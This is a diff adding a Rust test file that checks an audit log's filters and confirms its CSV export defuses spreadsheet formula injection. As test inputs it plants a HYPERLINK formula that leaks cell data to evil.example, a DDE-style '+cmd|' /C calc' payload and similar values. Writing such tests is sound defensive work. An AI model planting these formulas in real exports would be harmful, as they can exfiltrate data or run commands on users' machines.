@@ -1,0 +1,154 @@
+//! The audit log read back: filters, and one CSV export — from the page, the API and the CLI —
+//! that a standard CSV reader parses into the documented columns, hostile values defused and
+//! otherwise intact.
+
+use burnrate_store::{Actor, ActorType, NewAuditEntry};
+use burnrate_testkit::TestApp;
+use reqwest::Method;
+use serde_json::json;
+
+const COLUMNS: [&str; 13] = [
+    "seq",
+    "at",
+    "actor_type",
+    "actor_id",
+    "actor_label",
+    "action",
+    "target_type",
+    "target_id",
+    "details",
+    "ip",
+    "user_agent",
+    "prev_hash",
+    "hash",
+];
+
+/// What Python's `csv` module reads from `text`.
+async fn python_csv(text: &str) -> Vec<Vec<String>> {
+    use tokio::io::AsyncWriteExt;
+    let mut child = tokio::process::Command::new("python3")
+        .args(["-c", "import csv, json, sys; print(json.dumps(list(csv.reader(sys.stdin))))"])
+        .stdin(std::process::Stdio::piped())
+        .stdout(std::process::Stdio::piped())
+        .spawn()
+        .expect("python3");
+    child.stdin.take().unwrap().write_all(text.as_bytes()).await.unwrap();
+    let out = child.wait_with_output().await.unwrap();
+    assert!(out.status.success(), "python's csv reader failed: {}", String::from_utf8_lossy(&out.stderr));
+    serde_json::from_slice(&out.stdout).unwrap()
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_csv_export_parses_into_the_documented_columns_with_hostile_values_defused() {
+    let app = TestApp::spawn().await;
+    let (scope, _) = app.create_org("Acme", "owner@acme.test").await;
+    let c = app.login("owner@acme.test").await;
+    let key = crate::create_key(&c, "auditor", "admin").await;
+
+    // A real action from a client whose User-Agent is a spreadsheet formula.
+    let hostile_agent = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")";
+    let r = reqwest::Client::new()
+        .post(format!("{}/api/v1/budgets", app.url))
+        .bearer_auth(&key)
+        .header("user-agent", hostile_agent)
+        .json(&json!({ "name": "Research", "amount": "100", "currency": "USD", "period": "month" }))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), 201);
+    // Entries whose other columns hold what an attacker might get into them.
+    let mut tx = app.store.tenant(scope).await.unwrap();
+    tx.audit(NewAuditEntry {
+        actor: Actor { kind: ActorType::System, id: Some("-2+3".into()), label: "+cmd|' /C calc'!A0".into() },
+        action: "test_entry",
+        target_type: Some("note"),
+        target_id: Some("@SUM(A1:A9)".into()),
+        details: json!({ "text": "say \"hi\",\nthen leave — déjà vu ✓" }),
+        ip: Some("\tTAB".into()),
+        user_agent: Some("\rCR".into()),
+    })
+    .await
+    .unwrap();
+    tx.commit().await.unwrap();
+
+    let from_page = c.get("/audit.csv").await;
+    assert_eq!(from_page.status, 200);
+    assert_eq!(from_page.header("content-type").as_deref(), Some("text/csv; charset=utf-8"));
+    let from_api = c.api(Method::GET, "/api/v1/audit?format=csv", &key, None).await;
+    let cli = crate::burnrate(&app, &["audit", "export", "--org", "Acme"], &[], None).await;
+    assert!(cli.status.success(), "{}", String::from_utf8_lossy(&cli.stderr));
+    let from_cli = String::from_utf8(cli.stdout).unwrap();
+
+    let rows = python_csv(&from_page.text).await;
+    assert_eq!(rows[0], COLUMNS, "the documented header");
+    assert!(rows[1..].iter().all(|r| r.len() == COLUMNS.len()), "every record has every column");
+    let seqs: Vec<i64> = rows[1..].iter().map(|r| r[0].parse().unwrap()).collect();
+    assert!(seqs.windows(2).all(|w| w[0] < w[1]) && seqs[0] == 1, "oldest first, all of it: {seqs:?}");
+    let created = rows.iter().find(|r| r[5] == "budget_created").expect("the budget's entry");
+    assert_eq!(created[10], format!("'{hostile_agent}"), "a formula is defused, the rest kept");
+    assert!(created[1].ends_with('Z') && created[1].contains('T'), "UTC RFC 3339: {}", created[1]);
+    let planted = rows.iter().find(|r| r[5] == "test_entry").unwrap();
+    assert_eq!(planted[3], "-2+3".replace('-', "'-"), "a leading minus that is no number");
+    assert_eq!(planted[4], "'+cmd|' /C calc'!A0");
+    assert_eq!(planted[7], "'@SUM(A1:A9)");
+    assert_eq!(planted[9], "'\tTAB");
+    assert_eq!(planted[10], "'\rCR");
+    let details: serde_json::Value = serde_json::from_str(&planted[8]).unwrap();
+    assert_eq!(details["text"], "say \"hi\",\nthen leave — déjà vu ✓", "quotes, commas, newlines and non-ASCII intact");
+
+    // The three exports are the same file.
+    assert_eq!(from_api.text, from_page.text);
+    assert_eq!(from_cli, from_page.text);
+    // The chain still verifies: reading changed nothing.
+    assert!(crate::burnrate(&app, &["audit", "verify"], &[], None).await.status.success());
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_audit_log_filters_by_action_actor_target_and_time() {
+    let app = TestApp::spawn().await;
+    app.create_org("Acme", "owner@acme.test").await;
+    let c = app.login("owner@acme.test").await;
+    let key = crate::create_key(&c, "auditor", "admin").await;
+    for name in ["One", "Two"] {
+        let body = json!({ "name": name, "amount": "100", "currency": "USD", "period": "month" });
+        assert_eq!(c.api(Method::POST, "/api/v1/budgets", &key, Some(body)).await.status, 201);
+    }
+
+    let all = c.api(Method::GET, "/api/v1/audit", &key, None).await.json();
+    let created = c.api(Method::GET, "/api/v1/audit?action=budget_created", &key, None).await.json();
+    let created = created["entries"].as_array().unwrap();
+    assert_eq!(created.len(), 2, "{created:?}");
+    assert!(created[0]["seq"].as_i64() > created[1]["seq"].as_i64(), "newest first");
+    assert_eq!(created[0]["details"]["name"], "Two");
+    assert!(all["entries"].as_array().unwrap().len() > 2);
+    let target = created[1]["target_id"].as_str().unwrap();
+    let one = c.api(Method::GET, &format!("/api/v1/audit?target={target}"), &key, None).await.json();
+    assert_eq!(one["entries"].as_array().unwrap().len(), 1);
+    let actor = created[0]["actor_label"].as_str().unwrap().to_owned();
+    let by_actor = c.api(Method::GET, &format!("/api/v1/audit?actor={}", urlencode(&actor)), &key, None).await.json();
+    assert!(by_actor["entries"].as_array().unwrap().iter().all(|e| e["actor_label"] == actor.as_str()));
+    let tomorrow = (chrono::Utc::now().date_naive() + chrono::Duration::days(1)).to_string();
+    let future = c.api(Method::GET, &format!("/api/v1/audit?from={tomorrow}"), &key, None).await.json();
+    assert!(future["entries"].as_array().unwrap().is_empty());
+    let bad = c.api(Method::GET, "/api/v1/audit?from=last+tuesday", &key, None).await;
+    assert_eq!(bad.status, 422, "{}", bad.text);
+    assert!(bad.text.contains("from: a date such as 2026-11-30"), "{}", bad.text);
+
+    // The page filters the same way and exports what it shows.
+    let page = c.get("/audit?action=budget_created").await.text;
+    assert_eq!(page.matches("<code>budget_created</code>").count(), 2, "{page}");
+    assert!(
+        !page.contains("<code>login</code>") && page.contains("/audit.csv?actor=&#38;action=budget_created"),
+        "{page}"
+    );
+    let csv = c.get("/audit.csv?action=budget_created").await.text;
+    assert_eq!(csv.lines().count(), 3, "header and two entries: {csv}");
+    assert!(c.get(&format!("/audit?from={tomorrow}")).await.text.contains("No entry matches these filters."));
+    // Members read no audit log.
+    let read_key = crate::create_key(&c, "reader", "read").await;
+    assert_eq!(c.api(Method::GET, "/api/v1/audit", &read_key, None).await.status, 403);
+}
+
+fn urlencode(s: &str) -> String {
+    url::form_urlencoded::byte_serialize(s.as_bytes()).collect()
+}
